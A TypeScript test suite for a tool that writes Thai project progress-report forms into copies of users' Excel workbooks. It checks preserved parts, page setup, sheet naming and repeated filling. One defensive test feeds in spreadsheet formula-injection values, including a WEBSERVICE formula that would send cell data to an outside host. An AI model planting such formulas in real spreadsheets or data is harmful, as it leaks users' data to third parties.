import JSZip from 'jszip';
import type { Project, ProgressReport } from '../../src/core/model';
import { STANDARD_FORM_TITLE, standardForm, type FormRecord } from '../../src/core/template/standard-form';
import { writeFilledWorkbook } from '../../src/xlsx/fill';
import { readWorkbook } from '../../src/xlsx/read';
import { loadBack, partText } from './fixtures';
import { handmadeParts, handmadeWorkbook } from './handmade-package';

/**
 * Filled forms written into a copy of the user's workbook: new worksheet parts
 * with their formats and print settings, every other part as it was, and a
 * record of the sheets made so that filling again replaces only those.
 */

const PROJECT: Project = {
  code: '03000000-2457', name: 'โครงการปรับปรุงถนนซอยวัดใหม่', fiscalYear: 2563, startDate: '2019-10-01', endDate: '2020-08-31',
  budget: 1_918_000, spent: 1_150_800, agency: 'สำนักการโยธา', owner: 'นายพีระพงษ์ อินทร์แก้ว โทร. 1475',
};
const REPORT: FormRecord<ProgressReport> = {
  value: { projectCode: PROJECT.code, reportNo: 1, reportDate: '2019-10-19', stage: 'อยู่ระหว่างขั้นตอนการจัดทำร่างขอบเขตของงาน', progress: 7, disbursedToDate: 0, onPlan: true, onTarget: true },
};

const formOf = (project: Partial<Project> = {}, reports = [REPORT]) => standardForm({ value: { ...PROJECT, ...project } }, reports);

async function fill(data: Uint8Array, ...forms: ReturnType<typeof formOf>[]) {
  return writeFilledWorkbook({ data, fileName: 'handmade.xlsx' }, forms.length > 0 ? forms : [formOf()]);
}

/** Every part's uncompressed bytes, by path. */
async function partsOf(data: Uint8Array): Promise<Map<string, Uint8Array>> {
  const zip = await JSZip.loadAsync(data);
  const parts = new Map<string, Uint8Array>();
  for (const path of Object.keys(zip.files).filter((p) => !zip.files[p].dir)) parts.set(path, await zip.files[path].async('uint8array'));
  return parts;
}

/** The workbook's sheets as `<sheet>` elements list them: name and relationship id. */
function sheetList(workbookXml: string): string[] {
  return [...workbookXml.matchAll(/<sheet\b[^>]*\sname="([^"]*)"/g)].map((m) => m[1].replace(/&amp;/g, '&'));
}

/** The part a sheet of the copy is written to. */
async function sheetPart(data: Uint8Array, name: string): Promise<string> {
  const workbook = await partText(data, 'xl/workbook.xml');
  const id = new RegExp(`<sheet\\b[^>]*name="${name}"[^>]*r:id="([^"]+)"`).exec(workbook)![1];
  const rels = await partText(data, 'xl/_rels/workbook.xml.rels');
  const target = new RegExp(`Id="${id}"[^>]*Target="([^"]+)"`).exec(rels)![1];
  return partText(data, `xl/${target}`);
}

describe('writeFilledWorkbook — a copy with the forms added, everything else as it was', () => {
  let input: Uint8Array;
  let filled: Awaited<ReturnType<typeof fill>>;
  beforeAll(async () => {
    input = await handmadeWorkbook();
    filled = await fill(input);
  });

  it('keeps every part of the user\'s byte for byte but the workbook, its relationships, styles and content types', async () => {
    const before = await partsOf(input);
    const after = await partsOf(filled.data);
    const changed = [...before.keys()].filter((path) => !Buffer.from(before.get(path)!).equals(Buffer.from(after.get(path)!)));
    expect(changed.sort()).toEqual(['[Content_Types].xml', 'xl/_rels/workbook.xml.rels', 'xl/styles.xml', 'xl/workbook.xml']);
    const added = [...after.keys()].filter((path) => !before.has(path)).sort();
    expect(added).toEqual(['customXml/_rels/item1.xml.rels', 'customXml/item1.xml', 'customXml/itemProps1.xml', 'xl/worksheets/sheet6.xml']);
  });

  it('only adds to the workbook, styles, relationships and content types: what was there stays, in place', async () => {
    const original = handmadeParts();
    const workbook = await partText(filled.data, 'xl/workbook.xml');
    expect(sheetList(workbook)).toEqual(['โครงการ', 'รายงาน', 'ซ่อน', 'สรุป', 'ลับมาก', 'แบบฟอร์ม 03000000-2457']);
    expect(workbook).toContain('<definedName name="_xlnm.Print_Area" localSheetId="0">โครงการ!$A$1:$H$4</definedName><definedName name="งบประมาณ">โครงการ!$D$2:$D$3</definedName>');
    expect(workbook.replace(/<sheet name="แบบฟอร์ม[^>]*\/>/, '').replace(/<definedName name="_xlnm\.Print_(?:Area|Titles)" localSheetId="5">[^<]*<\/definedName>/g, '')).toBe(original['xl/workbook.xml']);
    const styles = await partText(filled.data, 'xl/styles.xml');
    // Existing fonts, fills, borders and cell formats keep their indexes: the new ones come after them.
    for (const list of ['fonts', 'fills', 'borders', 'cellXfs']) {
      const was = new RegExp(`<${list}[^>]*>([\\s\\S]*?)</${list}>`).exec(original['xl/styles.xml'])?.[1];
      if (was !== undefined) expect(new RegExp(`<${list}[^>]*>([\\s\\S]*?)</${list}>`).exec(styles)![1].startsWith(was)).toBe(true);
    }
    expect(styles).toContain('<name val="TH Sarabun New"/>');
    expect(styles).toContain('<sz val="16"/>');
  });

  it('sets the print area and the repeated header rows as the new sheet\'s own defined names', async () => {
    const workbook = await partText(filled.data, 'xl/workbook.xml');
    const form = formOf();
    const header = form.page.repeatRows!;
    expect(workbook).toContain(`<definedName name="_xlnm.Print_Area" localSheetId="5">'แบบฟอร์ม 03000000-2457'!$A$1:$G$${form.page.printArea.lastRow + 1}</definedName>`);
    expect(workbook).toContain(`<definedName name="_xlnm.Print_Titles" localSheetId="5">'แบบฟอร์ม 03000000-2457'!$${header.first + 1}:$${header.last + 1}</definedName>`);
  });

  it('writes the page setup: A4 portrait, one page wide, Thai official margins, header from page 2, merged areas and row heights', async () => {
    const sheet = await sheetPart(filled.data, 'แบบฟอร์ม 03000000-2457');
    expect(sheet).toContain('<sheetPr><pageSetUpPr fitToPage="1"/></sheetPr>');
    expect(sheet).toMatch(/<pageSetup paperSize="9" firstPageNumber="1" orientation="portrait" fitToWidth="1" fitToHeight="0" useFirstPageNumber="1"\/>/);
    expect(sheet).toContain('<pageMargins left="1.181" right="0.787" top="0.984" bottom="0.787" header="0.591" footer="0.394"/>');
    expect(sheet).toContain('<printOptions horizontalCentered="1"/>');
    expect(sheet).toContain('<headerFooter differentFirst="1"><oddHeader>&amp;C&amp;&quot;TH Sarabun New,Regular&quot;&amp;16- &amp;P -</oddHeader></headerFooter>');
    expect(sheet).toContain('<mergeCell ref="A1:G1"/>');
    expect(sheet).toContain('<sheetView showGridLines="0" workbookViewId="0">');
    expect(sheet).toMatch(/<row r="1" ht="\d+(\.\d+)?" customHeight="1">/);
  });

  it('writes a date as its serial under a Thai long-date format, and text as inline strings', async () => {
    const sheet = await sheetPart(filled.data, 'แบบฟอร์ม 03000000-2457');
    expect(sheet).toContain('<v>43757</v>');
    expect(sheet).toContain(`<t xml:space="preserve">${STANDARD_FORM_TITLE}</t>`);
    const styles = await partText(filled.data, 'xl/styles.xml');
    expect(styles).toContain('formatCode="[$-107041E]d mmmm yyyy"');
  });

  it('can be read back: the form\'s cells are where they were described', async () => {
    const book = await loadBack(filled.data);
    const sheet = book.getWorksheet('แบบฟอร์ม 03000000-2457')!;
    expect(sheet.getCell('A1').value).toBe(STANDARD_FORM_TITLE);
    expect(sheet.getCell('A1').font).toMatchObject({ name: 'TH Sarabun New', size: 18, bold: true });
    const grids = await readWorkbook(filled.data, 'filled.xlsx');
    expect(grids.map((grid) => grid.sheet)).toContain('แบบฟอร์ม 03000000-2457');
  });
});

describe('writeFilledWorkbook — text from data is never a formula', () => {
  it('writes = + - @ and a tab at the start of a value as inline text, with no formula anywhere in the sheet', async () => {
    const hostile = { name: '=WEBSERVICE("http://example.com/?"&A1)', agency: '+SUM(1,2)', owner: '-1+1', coordinator: '@HYPERLINK("x")', rationale: '\t=1+1' };
    const { data } = await fill(await handmadeWorkbook(), formOf(hostile));
    const sheet = await sheetPart(data, 'แบบฟอร์ม 03000000-2457');
    expect(sheet).not.toContain('<f>');
    expect(sheet).not.toMatch(/<f[\s>]/);
    expect(sheet).toContain('t="inlineStr"><is><t xml:space="preserve">=WEBSERVICE(&quot;http://example.com/?&quot;&amp;A1)</t></is>');
    const book = await loadBack(data);
    const values = new Set<unknown>();
    book.getWorksheet('แบบฟอร์ม 03000000-2457')!.eachRow((row) => row.eachCell((cell) => { values.add(cell.value); }));
    for (const text of Object.values(hostile)) expect(values).toContain(text);
  });
});

describe('writeFilledWorkbook — sheet names', () => {
  it('never takes a user\'s sheet name: a taken name gets (2)', async () => {
    const parts = handmadeParts();
    parts['xl/workbook.xml'] = parts['xl/workbook.xml'].replace('name="สรุป"', 'name="แบบฟอร์ม 03000000-2457"');
    const { data, sheets } = await fill(await handmadeWorkbook(parts));
    expect(sheets.map((sheet) => sheet.name)).toEqual(['แบบฟอร์ม 03000000-2457 (2)']);
    expect(sheetList(await partText(data, 'xl/workbook.xml'))).toEqual(['โครงการ', 'รายงาน', 'ซ่อน', 'แบบฟอร์ม 03000000-2457', 'ลับมาก', 'แบบฟอร์ม 03000000-2457 (2)']);
  });

  it('makes a valid name from any code: none of []:*?/\\, at most 31 characters, unique among forms of one run', async () => {
    const codes = ['A[1]:2*3?4/5\\6', 'x'.repeat(40), 'x'.repeat(41)];
    const { sheets } = await fill(await handmadeWorkbook(), ...codes.map((code) => formOf({ code })));
    for (const { name } of sheets) {
      expect(name).not.toMatch(/[[\]:*?/\\]/);
      expect(name.length).toBeLessThanOrEqual(31);
    }
    expect(new Set(sheets.map((sheet) => sheet.name.toLowerCase())).size).toBe(3);
    expect(sheets[0].name).toBe('แบบฟอร์ม A_1__2_3_4_5_6');
  });
});

describe('writeFilledWorkbook — filling again replaces only its own sheets', () => {
  it('rewrites the earlier form of the same project where it is, keeps the user\'s sheets, adds new projects', async () => {
    const once = await fill(await handmadeWorkbook(), formOf(), formOf({ code: '03000000-2441' }));
    const twice = await fill(once.data, formOf({ name: 'ชื่อใหม่' }), formOf({ code: '03000000-2460' }));
    expect(twice.sheets).toEqual([
      { name: 'แบบฟอร์ม 03000000-2457', template: 'standard', project: '03000000-2457', replaced: true },
      { name: 'แบบฟอร์ม 03000000-2460', template: 'standard', project: '03000000-2460', replaced: false },
    ]);
    const workbook = await partText(twice.data, 'xl/workbook.xml');
    expect(sheetList(workbook)).toEqual(['โครงการ', 'รายงาน', 'ซ่อน', 'สรุป', 'ลับมาก', 'แบบฟอร์ม 03000000-2457', 'แบบฟอร์ม 03000000-2441', 'แบบฟอร์ม 03000000-2460']);
    expect(await sheetPart(twice.data, 'แบบฟอร์ม 03000000-2457')).toContain('ชื่อใหม่');
    // One print area per sheet, not two.
    expect(workbook.match(/_xlnm\.Print_Area" localSheetId="5"/g)).toHaveLength(1);
    // The record lists all three forms, once each.
    const record = await partText(twice.data, 'customXml/item1.xml');
    expect(record.match(/<sheet /g)).toHaveLength(3);
    expect(await partsOf(twice.data)).not.toHaveProperty('customXml/item2.xml');
    // The user's parts are still the input's.
    const before = await partsOf(await handmadeWorkbook());
    const after = await partsOf(twice.data);
    for (const path of ['xl/worksheets/sheet1.xml', 'xl/worksheets/sheet2.xml', 'xl/sharedStrings.xml', 'xl/pivotCache/pivotCacheRecords1.xml']) {
      expect(Buffer.from(after.get(path)!).equals(Buffer.from(before.get(path)!))).toBe(true);
    }
  });

  it('does not replace a user\'s sheet that happens to bear a form\'s name', async () => {
    const once = await fill(await handmadeWorkbook());
    // The user deletes the form and gives a sheet of their own its name.
    const zip = await JSZip.loadAsync(once.data);
    const workbook = (await zip.file('xl/workbook.xml')!.async('string')).replace(/<sheet name="แบบฟอร์ม 03000000-2457"[^>]*\/>/, '').replace('name="สรุป"', 'name="แบบฟอร์ม 03000000-2457"');
    zip.file('xl/workbook.xml', workbook);
    // Its first cell is not the form's title: the sheet is the user's, and a new form goes beside it.
    const again = await fill(await zip.generateAsync({ type: 'uint8array' }));
    expect(again.sheets[0]).toMatchObject({ name: 'แบบฟอร์ม 03000000-2457 (2)', replaced: false });
  });

  it('still knows its form after Excel moved the form\'s text into the shared strings', async () => {
    const once = await fill(await handmadeWorkbook());
    const zip = await JSZip.loadAsync(once.data);
    const strings = await zip.file('xl/sharedStrings.xml')!.async('string');
    const count = (strings.match(/<si>/g) ?? []).length;
    zip.file('xl/sharedStrings.xml', strings.replace('</sst>', `<si><t>${STANDARD_FORM_TITLE}</t></si></sst>`));
    const sheet = await zip.file('xl/worksheets/sheet6.xml')!.async('string');
    zip.file('xl/worksheets/sheet6.xml', sheet.replace(/<c r="A1" s="(\d+)" t="inlineStr"><is><t xml:space="preserve">[^<]*<\/t><\/is><\/c>/, `<c r="A1" s="$1" t="s"><v>${count}</v></c>`));
    const again = await fill(await zip.generateAsync({ type: 'uint8array' }));
    expect(again.sheets[0]).toMatchObject({ name: 'แบบฟอร์ม 03000000-2457', replaced: true });
  });

  it('gives the same bytes for the same input', async () => {
    const input = await handmadeWorkbook();
    expect(Buffer.from((await fill(input)).data).equals(Buffer.from((await fill(input)).data))).toBe(true);
  });
});

describe('writeFilledWorkbook — a CSV source', () => {
  it('becomes a workbook holding the CSV sheet and the forms', async () => {
    const csv = new TextEncoder().encode('รหัสโครงการ,ชื่อโครงการ\n03000000-2457,ถนน\n');
    const { data, sheets } = await writeFilledWorkbook({ data: csv, fileName: 'projects.csv' }, [formOf()]);
    expect(sheets.map((sheet) => sheet.name)).toEqual(['แบบฟอร์ม 03000000-2457']);
    expect(sheetList(await partText(data, 'xl/workbook.xml'))).toEqual(['projects', 'แบบฟอร์ม 03000000-2457']);
  });
});
